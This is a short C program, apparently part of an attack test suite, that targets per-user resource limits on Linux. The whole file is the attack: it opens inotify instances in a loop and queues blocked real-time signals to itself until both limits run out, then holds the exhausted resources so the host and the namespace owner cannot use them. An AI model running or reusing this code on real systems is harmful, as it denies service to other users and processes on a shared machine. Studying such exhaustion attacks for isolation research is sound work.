/* Exhausts the per-user kernel counters a user namespace's owner is charged for: inotify
 * instances and queued real-time signals, then holds them while the host tries its own. */
#include "attack.h"
#include <signal.h>
#include <sys/inotify.h>
int main(int argc, char **argv) {
    int n = 0;
    while (inotify_init1(IN_CLOEXEC) >= 0) n++;
    printf("inotify instances: %d, then %s\n", n, strerrorname_np(errno));
    sigset_t set;
    sigemptyset(&set);
    sigaddset(&set, SIGRTMIN);
    sigprocmask(SIG_BLOCK, &set, 0);
    union sigval v = {0};
    long q = 0;
    while (sigqueue(getpid(), SIGRTMIN, v) == 0) q++;
    printf("queued signals: %ld, then %s\n", q, strerrorname_np(errno));
    hold();
    return 0;
}
